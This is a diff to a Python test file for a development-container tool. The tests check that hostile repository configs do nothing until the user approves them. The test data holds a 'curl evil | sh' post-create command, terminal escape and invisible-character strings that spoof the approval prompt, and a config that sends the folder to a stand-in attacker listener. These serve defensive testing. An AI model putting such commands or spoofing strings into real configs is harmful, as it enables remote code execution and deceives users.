@@ -1,18 +1,15 @@
 """Configs that this person has not approved: hostile repositories do nothing before a yes, by whichever verb they are met."""
 import json
 import os
-import pty
-import select
 import shutil
 import socket
 import subprocess
 import tempfile
 import threading
-import time
 import unittest
 
 import harness
-from harness import HELPER_BIN_DIR, Helper, Sandbox
+from harness import Helper, Sandbox
 
 VERBS = (("ensure",), ("ensure", "--dry-run"), ("ensure", "--quick"), ("plan",), ("status",), ("connect",), ("exec", "t1", "--", "true"), ("cp", "t1:/x", "y"),
          ("open", "jupyter"), ("open", "gateway", "--print"), ("settings",), ("settings", "--format", "ssh-config"), ("settings", "apply"), ("settings", "diff"),
@@ -101,32 +98,6 @@ class Trust(unittest.TestCase):
     def state(self):
         return json.loads(self.helper.run_once("rpc", "trusted", json.dumps({"folder": self.repository})).stdout)
 
-    def answer_in_a_terminal(self, answers, *argv, before_answer=lambda: None):
-        """The command in a terminal of its own, and an answer to each of its questions; what was on it, and the exit status."""
-        answers = [answers] if isinstance(answers, str) else list(answers)
-        pid, terminal = pty.fork()
-        if pid == 0:
-            os.chdir(self.repository)
-            os.execve(os.path.join(HELPER_BIN_DIR, "helper"), ["helper", *argv], self.helper.environment)
-        seen, asked, limit = b"", 0, time.monotonic() + 60
-        while time.monotonic() < limit:
-            if not select.select([terminal], [], [], 1)[0]:
-                continue
-            try:
-                part = os.read(terminal, 65536)
-            except OSError:
-                break
-            if not part:
-                break
-            seen += part
-            if asked < len(answers) and seen.count(b"[yes/no]") > asked:
-                before_answer()
-                os.write(terminal, answers[asked].encode() + b"\n")
-                asked += 1
-        os.close(terminal)
-        status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
-        return seen.decode(errors="replace").replace("\r", ""), status
-
     def test_no_verb_does_anything_before_a_yes(self):
         self.write("repository/Dockerfile", "FROM x\n")
         self.config(self.hostile(build={"context": "."}))
@@ -180,7 +151,7 @@ class Trust(unittest.TestCase):
         target["post_create"] = ["true # \x1b[2J\x1b[1;1H \u202e \u200b\r\n  t1: connects to nowhere"]
         target["container"]["command"] = ["sh", "-c", "\x9b31m" + "a" * 1_000_000]
         self.config(target)
-        seen, status = self.answer_in_a_terminal("no", "ensure")
+        seen, status = self.helper.answer_in_a_terminal("no", "ensure", folder=self.repository)
         self.assertEqual(status, 130, seen[-2000:])
         for bad in ("\x1b[2J", "\u202e", "\u200b", "\x9b", "\n  t1: connects to nowhere"):
             self.assertNotIn(bad, seen)
@@ -194,7 +165,7 @@ class Trust(unittest.TestCase):
     def test_a_config_that_is_swapped_while_the_question_is_open_is_asked_about_again(self):
         self.config(self.hostile())
         swapped = {**self.hostile(), "post_create": ["curl evil | sh"]}
-        seen, status = self.answer_in_a_terminal(("yes", "no"), "ensure", before_answer=lambda: self.config(swapped))
+        seen, status = self.helper.answer_in_a_terminal(("yes", "no"), "ensure", before_answer=lambda: self.config(swapped), folder=self.repository)
         self.assertIn("new: t1: runs once in the container: curl evil | sh", seen)
         self.assertEqual(status, 130, seen)
         self.assert_nothing_happened()
@@ -233,12 +204,12 @@ class Trust(unittest.TestCase):
         self.write("repository/setup.sh", "echo one\n")
         target = {**self.hostile(build={"context": "."}), "post_create": ["bash setup.sh"]}
         self.config(target)
-        seen, status = self.answer_in_a_terminal("no", "ensure")
+        seen, status = self.helper.answer_in_a_terminal("no", "ensure", folder=self.repository)
         self.assertIn("runs or sends the file setup.sh", seen)
         self.assertIn(f"sends to me@127.0.0.1:{self.listener.port} the folder", seen)
         self.assertEqual(status, 130, seen)
         self.assert_nothing_happened()
-        seen, status = self.answer_in_a_terminal("yes", "ensure")
+        seen, status = self.helper.answer_in_a_terminal("yes", "ensure", folder=self.repository)
         self.assertEqual(status, 4, seen)  # the attacker's server is no SSH server
         self.assertGreater(self.listener.connections, 0)
         self.helper.run_once("rpc", "shutdown")
